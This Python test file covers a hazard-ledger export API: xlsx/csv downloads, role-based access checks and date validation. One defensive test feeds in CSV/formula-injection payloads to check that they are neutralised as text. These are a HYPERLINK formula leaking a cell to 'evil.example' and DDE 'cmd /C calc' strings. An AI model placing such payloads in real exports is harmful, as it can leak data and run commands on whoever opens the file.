"""GET /api/v1/ledger/{unit}: the hazard ledger (台账) as an .xlsx or .csv download, with the
lists' access rules: a supervisor or inspector within their subtree, auditors and admins
anywhere, an enterprise not at all; bad periods refused naming the field."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook

from tests.api.conftest import ApiHarness
from tests.api.matrix import register


async def test_the_ledger_downloads_as_excel_and_csv_within_the_principals_grid(
    isolated_api: ApiHarness,
):
    api, grid = isolated_api, isolated_api.grid
    tz = api.services.policy.tz
    found = datetime.now(UTC) - timedelta(hours=2)
    in_a = await register(api, found_at=found.isoformat())
    in_b = await register(
        api, "inspector_b", credit_code=grid.enterprise_b, found_at=found.isoformat()
    )
    api.project()
    day = found.astimezone(tz).date().isoformat()
    period = {"from": day, "to": day}

    county = await api.client.get(
        f"/api/v1/ledger/{grid.county}", params=period, headers=grid.headers("auditor")
    )
    assert county.status_code == 200, county.text
    assert county.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f"ledger-{grid.county}-{day}-{day}.xlsx" in county.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(county.content))["隐患台账"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]
    assert sorted(row[1] for row in rows) == sorted([in_a, in_b])
    line = next(row for row in rows if row[1] == in_a)
    headings = [cell.value for cell in sheet[2]]
    named = dict(zip(headings, line, strict=True))
    assert named["企业"] == "诸城某机械有限公司" and named["状态"] == "整改中"
    assert named["整改措施"] and named["责任人"]

    # A township's supervisor: their own subtree, as CSV; the county is outside it.
    own = await api.client.get(
        f"/api/v1/ledger/{grid.township_b}",
        params={**period, "format": "csv"},
        headers=grid.headers("supervisor_b"),
    )
    assert own.status_code == 200, own.text
    assert own.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(own.content.decode("utf-8-sig"))))
    assert [row[1] for row in table[1:]] == [in_b]
    outside = await api.client.get(
        f"/api/v1/ledger/{grid.county}", params=period, headers=grid.headers("supervisor_b")
    )
    assert outside.status_code == 403, outside.text
    enterprise = await api.client.get(
        f"/api/v1/ledger/{grid.township_a}", params=period, headers=grid.headers("enterprise_a")
    )
    assert enterprise.status_code == 403, enterprise.text

    backwards = await api.client.get(
        f"/api/v1/ledger/{grid.county}",
        params={"from": day, "to": "2000-01-01"},
        headers=grid.headers("auditor"),
    )
    assert backwards.status_code == 422, backwards.text
    assert backwards.json()["error"]["field"] == "to"
    unknown = await api.client.get(
        f"/api/v1/ledger/{grid.county}-NOPE", params=period, headers=grid.headers("auditor")
    )
    assert unknown.status_code == 404, unknown.text
    anonymous = await api.client.get(f"/api/v1/ledger/{grid.county}", params=period)
    assert anonymous.status_code == 401


async def test_text_that_starts_like_a_formula_is_kept_as_text_in_both_files(
    isolated_api: ApiHarness,
):
    """A description, measure or name typed as ``=…``/``+…``/``-…``/``@…`` must not run when
    the bureau opens the ledger: in the workbook it is a string cell, unchanged; in the CSV it
    is prefixed with ``'``."""
    api, grid = isolated_api, isolated_api.grid
    found = datetime.now(UTC) - timedelta(hours=2)
    typed = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "measures": "+cmd|' /C calc'!A0",
        "responsible_person": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    hazard_id = await register(api, found_at=found.isoformat(), **typed)
    minus = await register(api, found_at=found.isoformat(), description="-2+3 处线路裸露")
    api.project()
    day = found.astimezone(api.services.policy.tz).date().isoformat()
    period = {"from": day, "to": day}

    xlsx = await api.client.get(
        f"/api/v1/ledger/{grid.county}", params=period, headers=grid.headers("auditor")
    )
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content))["隐患台账"]
    headings = [cell.value for cell in sheet[2]]
    cells = {
        row[1].value: dict(zip(headings, row, strict=True)) for row in sheet.iter_rows(min_row=3)
    }
    line = cells[hazard_id]
    assert line["隐患描述"].value == typed["description"]
    assert line["隐患描述"].data_type == "s"  # a string cell, not a formula ("f")
    assert line["整改措施"].value == typed["measures"] and line["整改措施"].data_type == "s"
    assert line["责任人"].value == typed["responsible_person"]
    assert line["责任人"].data_type == "s"
    assert b"<f>" not in xlsx.content and all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row
    )

    as_csv = await api.client.get(
        f"/api/v1/ledger/{grid.county}",
        params={**period, "format": "csv"},
        headers=grid.headers("auditor"),
    )
    assert as_csv.status_code == 200, as_csv.text
    table = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    named = {row[1]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    assert named[hazard_id]["隐患描述"] == "'" + typed["description"]
    assert named[hazard_id]["整改措施"] == "'" + typed["measures"]
    assert named[hazard_id]["责任人"] == "'" + typed["responsible_person"]
    assert named[minus]["隐患描述"] == "'-2+3 处线路裸露"
    assert named[minus]["企业"] == "诸城某机械有限公司"  # other text as it is
